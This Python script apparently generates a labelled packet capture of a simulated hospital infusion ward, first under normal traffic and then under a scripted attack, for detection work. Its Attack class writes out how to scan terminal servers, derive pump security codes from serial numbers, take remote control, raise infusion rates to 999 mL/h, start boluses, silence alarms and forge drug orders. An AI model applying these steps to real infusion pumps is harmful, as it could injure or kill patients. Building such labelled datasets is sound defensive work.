"""infusion.pcap: an infusion ward, first as usual, then attacked, with labels.

usage: infusion.py CAPTURE LABELS
"""

import asyncio
import contextlib
import copy
import datetime
import json
import pathlib
import socket
import struct
import sys
import tempfile
import time

import alaris
import dianet
import pcd
import pcd_text
import people
import sockets
from infusion_ward import ADDRESS, HOSTS, Ward
from net import SWITCH, Network
from processes import Capture, Processes

NORMAL_SECONDS = 160
QUIET_SECONDS = 20


def iso(seconds):
    return datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


class Attack:
    """What must not happen, one step after the other, each with its label."""

    def __init__(self, ward):
        self.ward, self.network, self.journal = ward, ward.network, ward.journal
        self.events = []

    @contextlib.asynccontextmanager
    async def step(self, name, source, target, family, pumps, what, **more):
        await asyncio.sleep(4)
        print(f"  {name}")
        began, orders = time.time(), len(self.journal.orders)
        yield
        self.events.append({"name": name, "start": began, "end": time.time(), "src": ADDRESS[source], "dst": ADDRESS[target], "family": family, "pumps": pumps,
                            "orders": orders, **more, "what": what})

    async def all(self):
        await self.laptop()
        await self.line()
        await self.orders()
        await asyncio.sleep(8)

    async def laptop(self):
        """From a port scan to a bolus."""
        self.network.host("laptop", ADDRESS["laptop"], HOSTS["laptop"][1])
        async with self.step("scan-terminal-servers", "laptop", "ts1", None, [], "a laptop never seen before tries ports of both terminal servers: 16 and 8, of which 4 are open"):
            for host, ports in (("ts1", range(4001, 4017)), ("ts2", range(2001, 2009))):
                for port in ports:
                    with contextlib.suppress(OSError):
                        _, writer = await sockets.connect(self.network, "laptop", (ADDRESS[host], port))
                        await asyncio.sleep(0.03)
                        writer.close()
                    await asyncio.sleep(0.04)
        serials = [port.pump.serial for port in self.ward.alaris[:3]]
        masters = []
        async with self.step("read-serials", "laptop", "ts1", "alaris", serials, "the laptop asks three Alaris pumps for protocol, serial number and what they do"):
            for port in (4001, 4002, 4003):
                master = await alaris.Master(self.network, "laptop", (ADDRESS["ts1"], port), self.journal).open()
                code = await master.identify()
                await master.ask("INF")
                masters.append(master)
                await asyncio.sleep(0.4)
        master = masters.pop()
        for other in masters:
            await other.close()
        async with self.step("guess-code", "laptop", "ts1", "alaris", serials[2:], "the laptop tries four wrong security codes on the third pump, which keeps silent"):
            for guess in ("0000", "1234", "FFFF", "9535"):
                await master.ask(f"REMOTE_CTRL^ENABLED^{guess}", again=False)
                await asyncio.sleep(0.4)
        async with self.step("take-control", "laptop", "ts1", "alaris", serials[2:], "the right code, made of the serial number: remote control and remote configuration are the laptop's"):
            for name in ("REMOTE_CTRL", "REMOTE_CFG"):
                await master.ask(f"{name}^ENABLED^{code}")
        async with self.step("change-rate", "laptop", "ts1", "alaris", serials[2:], "20 mL/h become 999 mL/h"):
            await master.ask("INF_RATE^999.00^ml/h")
            await master.ask(f"REMOTE_CTRL^ENABLED^{code}")
            await master.ask("INF")
        async with self.step("start-bolus", "laptop", "ts1", "alaris", serials[2:], "a bolus is permitted and the pump started"):
            await master.ask("INF_BOLUS^ENABLED")
            await master.ask("INF_START")
            await master.ask("INF")
        await master.close()

    async def line(self):
        """The Dianet line, and a rack."""
        async with self.step("silence-alarms", "laptop", "star1", "dianet", ["74566"], "the laptop reads the ident number of pump B, takes remote control with its complement and disables "
                             "the alarms"):
            host = await dianet.Host(self.network, "laptop", (ADDRESS["star1"], 4001), self.journal).open()
            await host.ask("B", dianet.IDENT)
            await host.control("B", 1)
            await host.act("B", dianet.ALARMS_OFF, 1)
            await asyncio.sleep(1.5)
            await host.close()
        async with self.step("change-library", "space1", "pdms", "bcc", ["B0012"], "a pump in the rack has another drug library than before; who put it there isn't seen"):
            self.ward.rack.library["12"] = ("UNRELEASED", "1795305600")
            await asyncio.sleep(5.5)

    async def orders(self):
        """Orders that nobody gave, and an effect without an order."""
        self.network.host("box", ADDRESS["box"], HOSTS["box"][1])
        gateway = self.ward.gateway
        async with self.step("forge-order", "box", "gateway", "pcd", ["A0002"], "a host never seen before orders 600 mL/h at the gateway for the pump that gives potassium chloride at 12; "
                             "the gateway obeys and tells the real ordering system, which never asked"):
            pump = gateway.pumps["A0002"]
            link = pcd.Link(self.network, "box", (ADDRESS["gateway"], 3000), self.ward.messages)
            await link.send(pcd_text.order(people.patient(801), pump, gateway.orders["A0002"], pump.drug, 600, 500, "XO"))
            await asyncio.sleep(1)
            await link.close()
        async with self.step("rate-without-order", "gateway", "cis", "pcd", ["A0003"], "a pump ordered to give 42 mL/h gives 250; no order came"):
            gateway.pumps["A0003"].rate = 250.0
            await gateway.observe("A0003")
            await asyncio.sleep(10)


def packets(path):
    """(time, source, destination) of each packet; addresses None where it isn't IPv4."""
    data = pathlib.Path(path).read_bytes()
    at = 24
    while at + 16 <= len(data):
        seconds, micros, length = struct.unpack_from("<III", data, at)
        frame = data[at + 16:at + 16 + length]
        ends = (socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])) if frame[12:14] == b"\x08\x00" else (None, None)
        yield seconds + micros / 1e6, *ends
        at += 16 + length


def label(event, seen, orders):
    """A step as it is written down: with the packets between its two hosts, counted from 1 as the file has them."""
    inside = [number for number, (moment, *ends) in enumerate(seen, 1)
              if event["start"] - 0.001 <= moment <= event["end"] + 0.3 and {event["src"], event["dst"]} == set(ends)]
    done = [{"at": iso(moment), "by": host, "pump": pump, "command": command, "value": value}
            for moment, _, host, pump, command, value in orders[event["orders"]:] if moment <= event["end"] and host == event["src"]]
    return {**event, "start": iso(event["start"]), "end": iso(event["end"]), "packets": [inside[0], inside[-1]], "orders": done}


async def main(capture_path, labels_path):
    with tempfile.TemporaryDirectory(prefix="pcaps-") as folder, Network() as network:
        processes = Processes(network)
        try:
            ward = Ward(network)
            await ward.open()
            capture = Capture(processes, SWITCH, "br0", pathlib.Path(folder) / "infusion.pcap")
            print("infusion: as usual")
            tasks = ward.everything()
            await asyncio.sleep(NORMAL_SECONDS)
            normal_until, usual = time.time(), copy.deepcopy(ward.journal.counts)
            await asyncio.sleep(QUIET_SECONDS)
            print("infusion: attacked")
            attack = Attack(ward)
            await attack.all()
            dead = [task for task in tasks[:-1] if task.done()]
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            for task in dead:
                task.result()
            await asyncio.sleep(0.5)  # for answers on their way
            capture.stop()
            await ward.close()
            seen = list(packets(capture.path))
            labels = {"capture": pathlib.Path(capture_path).name, "first": iso(seen[0][0]), "normal_until": iso(normal_until),
                      "normal_until_offset_s": round(normal_until - seen[0][0], 3),
                      "hosts": {ADDRESS[n]: {"name": n, "mac": mac} for n, (_, mac) in HOSTS.items()},
                      "normal_counts": usual, "counts": ward.journal.counts, "messages": dict(sorted(ward.messages.items())),
                      "orders": [{"at": iso(t), "family": family, "by": host, "pump": pump, "command": command, "value": value}
                                 for t, family, host, pump, command, value in ward.journal.orders],
                      "events": [label(event, seen, ward.journal.orders) for event in attack.events]}
            pathlib.Path(capture_path).write_bytes(capture.path.read_bytes())
            pathlib.Path(labels_path).write_text(json.dumps(labels, indent=1) + "\n")
        finally:
            processes.stop_all()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:3]))
